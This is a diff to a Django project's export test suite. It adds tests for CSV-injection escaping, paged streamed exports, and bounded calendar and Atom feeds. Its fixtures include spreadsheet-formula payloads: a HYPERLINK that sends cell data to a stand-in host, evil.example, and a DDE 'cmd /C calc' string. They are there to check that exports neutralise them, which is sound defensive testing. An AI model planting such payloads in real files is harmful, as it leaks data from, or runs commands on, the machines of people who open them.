@@ -14,11 +14,14 @@ import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
+from hypothesis import given
+from hypothesis import strategies as st
 
-from timeline.exports import CSV_COLUMNS
+from timeline import exports, feeds
+from timeline.exports import CSV_COLUMNS, FORMULA_TRIGGERS
 from timeline.models import Statement
 
-from .factories import make_citation, make_event, make_source, make_speaker, make_statement
+from .factories import make_citation, make_event, make_source, make_speaker, make_statement, make_topic
 
 EXPORTS = ["/export.csv", "/export/timelinejs.json", "/feeds/statements.atom", "/feeds/events.ics"]
 
@@ -141,6 +144,182 @@ def test_csv_runs_a_constant_number_of_queries(client, db):
     assert len(many) == len(few)
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")',
+    "+1 and more talks",
+    "-2 degrees in Moscow",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTabbed words",
+    "'Tis the season, Putin said",
+]
+# The README's rule for getting the exact words back: remove the quote added at the start of a text cell and
+# after each semicolon, tab or line break in it.
+ADDED_QUOTE = re.compile(r"(?:^|(?<=[;\t\r\n]))'")
+
+
+def unquoted(cell: str) -> str:
+    return ADDED_QUOTE.sub("", cell)
+
+
+def test_csv_cells_a_spreadsheet_would_read_as_formulas_begin_with_a_quote(client, db):
+    """OWASP's CSV-injection rule: a text cell beginning with =, +, -, @, tab or carriage return is prefixed with
+    a single quote, so Excel, LibreOffice or Sheets show it as text instead of running it. A cell already
+    beginning with a quote gets one too, so that the README's rule gives the words back exactly."""
+    for n, words in enumerate(FORMULAS):
+        make_statement(
+            text=words,
+            summary=words,
+            speaker=make_speaker(name=words, slug=f"formula-{n}"),
+            source=make_source(title=words, publisher=words, original_text=f"Opening line.\n\n{words}\n\nEnd.\n"),
+        )
+    rows = csv_rows(client)
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        statement = Statement.objects.get(pk=row["id"])
+        citation = statement.citations.get()
+        for column, words in (
+            ("text", statement.text),
+            ("summary", statement.summary),
+            ("speaker", statement.speaker.name),
+            ("source_title", citation.source.title),
+            ("publisher", citation.source.publisher),
+            ("passage", citation.passage),
+        ):
+            assert not row[column].startswith(FORMULA_TRIGGERS[:-1]), (column, row[column])
+            assert row[column].startswith("'") == words.startswith(FORMULA_TRIGGERS), (column, row[column])
+            assert unquoted(row[column]) == words
+        assert row["id"].isdigit()
+        assert row["start"].isdigit()
+    assert {unquoted(row["text"]) for row in rows} == set(FORMULAS)
+
+
+def test_csv_keeps_ordinary_words_as_they_are(client, db):
+    """Honest data stays readable: words without a formula character where a cell could begin are not touched."""
+    words = 'We are ready — "at any moment" — to meet; 1 + 1 = 2, @ noon,\nsaid -- Putin'
+    make_statement(text=words, summary="Ready to meet", speaker=make_speaker(name="Vladimir Putin"))
+    (row,) = csv_rows(client)
+    assert (row["text"], row["summary"], row["speaker"], row["passage"]) == (
+        words,
+        "Ready to meet",
+        "Vladimir Putin",
+        words,
+    )
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_no_csv_cell_begins_a_formula_after_any_separator_a_spreadsheet_may_split_on(client, db, separator):
+    """Words holding a separator and then a formula (`a;=HYPERLINK(…)`) cannot start a formula cell, whichever
+    separator the spreadsheet reads the file with (a semicolon in many European locales, Russian among them):
+    text cells are quoted, and a quote goes before a formula character after a semicolon, tab or line break."""
+    words = 'Agreed,=HYPERLINK("http://evil.example");+1\t@SUM(A1) and\n-1 too'
+    make_statement(text=words, summary=f"x{separator}=1+1")
+    raw = body(client.get("/export.csv")).decode()
+    cells = [cell for row in csv.reader(io.StringIO(raw, newline=""), delimiter=separator) for cell in row]
+    assert len(cells) > 1
+    for cell in cells:
+        assert not cell.startswith(FORMULA_TRIGGERS[:-1]), cell
+    (row,) = csv_rows(client)
+    assert (unquoted(row["text"]), unquoted(row["summary"])) == (words, f"x{separator}=1+1")
+
+
+@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n;, aZ\"\0"), max_size=30))
+def test_the_formula_rule_is_reversible_and_leaves_no_formula_where_a_cell_may_begin(words):
+    """For any text: after the rule, no place where a spreadsheet may begin a cell holds a formula character,
+    and removing the added quotes (the README's rule) gives the text back exactly."""
+    safe = exports.spreadsheet_safe(words)
+    assert unquoted(safe) == words
+    for boundary in re.finditer(r"(?:^|(?<=[;\t\r\n]))", safe):
+        assert not safe[boundary.start() :].startswith(FORMULA_TRIGGERS[:-1])
+
+
+# --- Bounded parts ---------------------------------------------------------------
+
+
+def export_ids(url: str, response) -> list[int]:
+    """The statement ids an export response holds, in order, whatever its format."""
+    if url == "/export.csv":
+        rows = csv.DictReader(io.StringIO(body(response).decode(), newline=""))
+        return list(dict.fromkeys(int(row["id"]) for row in rows))
+    data = json.loads(body(response))
+    jsonschema.validate(data, TIMELINEJS_SCHEMA)
+    return [int(event["unique_id"][1:]) for event in data["events"]]
+
+
+def next_link(response) -> str | None:
+    links = dict((rel, url) for url, rel in re.findall(r'<([^>]+)>; rel="(\w+)"', response.get("Link", "")))
+    return links.get("next")
+
+
+@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json"])
+def test_an_export_comes_in_streamed_parts_each_linking_to_the_next(client, db, monkeypatch, url):
+    """However many statements match, one response holds at most EXPORT_PAGE_SIZE of them, streamed; its `Link`
+    header names the next part (filters kept), and following the links gives every statement once, in order."""
+    monkeypatch.setattr(exports, "EXPORT_PAGE_SIZE", 2)
+    speaker = make_speaker()
+    expected = [
+        make_statement(speaker=speaker, date=dt.date(2016, 1, day), text=f"The leaders said they would meet {day}")
+        for day in (5, 1, 3, 2, 4)
+    ]
+    make_statement(date=dt.date(2016, 1, 6))  # another speaker's, filtered out
+    expected.sort(key=lambda statement: statement.date)
+    seen, link, parts = [], f"{url}?speaker={speaker.slug}&q=", 0
+    while link:
+        response = client.get(link)
+        assert response.status_code == 200
+        assert response.streaming
+        ids = export_ids(url, response)
+        assert 1 <= len(ids) <= 2
+        seen += ids
+        parts += 1
+        link = next_link(response)
+        if link:
+            assert link.startswith(f"http://testserver{url}?speaker={speaker.slug}&page=")
+    assert seen == [statement.pk for statement in expected]
+    assert parts == 3
+    assert f'<http://testserver{url}?speaker={speaker.slug}&page=2>; rel="prev"' in response["Link"]
+
+
+@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json"])
+def test_an_export_newest_first_comes_in_parts_too(client, db, monkeypatch, url):
+    """order=-date is kept in the links, and the parts run newest first."""
+    monkeypatch.setattr(exports, "EXPORT_PAGE_SIZE", 2)
+    statements = [make_statement(date=dt.date(2016, 1, day)) for day in (1, 2, 3)]
+    first = client.get(url, {"order": "-date"})
+    assert export_ids(url, first) == [statements[2].pk, statements[1].pk]
+    assert next_link(first) == f"http://testserver{url}?order=-date&page=2"
+    assert export_ids(url, client.get(next_link(first))) == [statements[0].pk]
+
+
+@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json", "/feeds/events.ics"])
+def test_a_part_past_the_last_is_a_404_and_a_bad_page_a_400(client, db, url):
+    """page must be a whole number from 1; a part past the last is not found; an empty first part is a valid,
+    empty file."""
+    make_statement(event=make_event())
+    assert client.get(url, {"page": "2"}).status_code == 404
+    for page in ("0", "-1", "two", "1.5", "9" * 50):
+        response = client.get(url, {"page": page})
+        assert response.status_code == 400
+        assert response.content.decode().startswith("Invalid parameter: page: ")
+    assert client.get(url, {"page": "1", "side": "us"}).status_code == 200
+
+
+@pytest.mark.parametrize("url", ["/export.csv", "/export/timelinejs.json"])
+def test_a_part_takes_the_same_queries_however_many_statements_there_are(client, db, monkeypatch, url):
+    """Guards against N+1 and against reading the whole corpus: a part of 3 from 4 statements or from 20 costs
+    the same queries."""
+    monkeypatch.setattr(exports, "EXPORT_PAGE_SIZE", 3)
+    speaker = make_speaker()
+    for _ in range(4):
+        make_statement(speaker=speaker, topics=(make_topic(),))
+    with CaptureQueriesContext(connection) as few:
+        assert len(export_ids(url, client.get(url))) == 3
+    for _ in range(16):
+        make_statement(speaker=speaker, topics=(make_topic(),))
+    with CaptureQueriesContext(connection) as many:
+        assert len(export_ids(url, client.get(url, {"page": "2"}))) == 3
+    assert len(many) == len(few)
+
+
 # --- TimelineJS ----------------------------------------------------------------
 
 # From Knight Lab's published rules (https://timeline.knightlab.com/docs/json-format.html): a timeline is an
@@ -213,7 +392,7 @@ def timelinejs(client, params: dict | None = None) -> dict:
     response = client.get("/export/timelinejs.json", params or {})
     assert response.status_code == 200
     assert response["Content-Type"] == "application/json"
-    data = json.loads(response.content)
+    data = json.loads(body(response))
     jsonschema.validate(data, TIMELINEJS_SCHEMA, format_checker=jsonschema.FormatChecker())
     return data
 
@@ -385,3 +564,59 @@ def test_calendar_honours_the_filters_and_leaves_drafts_out(client, db):
     (vevent,) = calendar(client, {"speaker": putin.slug})
     assert str(vevent["SUMMARY"]) == "Shared"
     assert "Trump at the shared event" not in str(vevent["DESCRIPTION"])
+
+
+def test_calendar_quotes_the_first_accounts_of_an_event_and_links_to_the_rest(client, db, monkeypatch):
+    """An event with many accounts lists the first ACCOUNTS_PER_EVENT, oldest first, and says how many more
+    there are with a link to the chronology of that event (filters kept): the file stays small."""
+    monkeypatch.setattr(feeds, "ACCOUNTS_PER_EVENT", 2)
+    event = make_event(name="A summit", slug="summit")
+    speaker = make_speaker(name="Vladimir Putin")
+    for day in (4, 1, 3, 2):
+        make_statement(event=event, speaker=speaker, date=dt.date(2016, 1, day), text=f"Words said on day {day}")
+    latest = Statement.objects.filter(event=event).order_by("-updated_at").first()
+    (vevent,) = calendar(client, {"speaker": speaker.slug})
+    description = str(vevent["DESCRIPTION"])
+    assert "Words said on day 1" in description
+    assert "Words said on day 2" in description
+    assert "day 3" not in description
+    assert "day 4" not in description
+    assert description.endswith(f"… and 2 more: http://testserver/?speaker={speaker.slug}&event=summit")
+    assert vevent.decoded("DTSTAMP") == latest.updated_at.replace(microsecond=0)
+
+
+def test_calendar_comes_in_parts_of_the_newest_events(client, db, monkeypatch):
+    """A calendar holds at most CALENDAR_EVENTS events, newest first, and links to the next part."""
+    monkeypatch.setattr(feeds, "CALENDAR_EVENTS", 2)
+    for year in (2016, 2018, 2017):
+        make_statement(event=make_event(name=f"Event of {year}", date=dt.date(year, 5, 1)))
+    response = client.get("/feeds/events.ics")
+    assert {str(vevent["SUMMARY"]) for vevent in calendar(client)} == {"Event of 2018", "Event of 2017"}
+    assert next_link(response) == "http://testserver/feeds/events.ics?page=2"
+    assert [str(vevent["SUMMARY"]) for vevent in calendar(client, {"page": "2"})] == ["Event of 2016"]
+
+
+def test_calendar_takes_the_same_queries_however_many_events_and_accounts(client, db):
+    """Guards against N+1: two events with one account each cost what six events with three each cost."""
+
+    def add_events(count: int, accounts: int) -> None:
+        for _ in range(count):
+            event = make_event()
+            for _ in range(accounts):
+                make_statement(event=event)
+
+    add_events(2, 1)
+    with CaptureQueriesContext(connection) as few:
+        assert len(calendar(client)) == 2
+    add_events(4, 3)
+    with CaptureQueriesContext(connection) as many:
+        assert len(calendar(client)) == 6
+    assert len(many) == len(few)
+
+
+def test_atom_feed_holds_at_most_feed_length_entries(client, db, monkeypatch):
+    """The feed is bounded: only the FEED_LENGTH most recently changed statements, whatever the corpus."""
+    monkeypatch.setattr(feeds, "FEED_LENGTH", 3)
+    for _ in range(5):
+        make_statement()
+    assert len(atom(client).entries) == 3
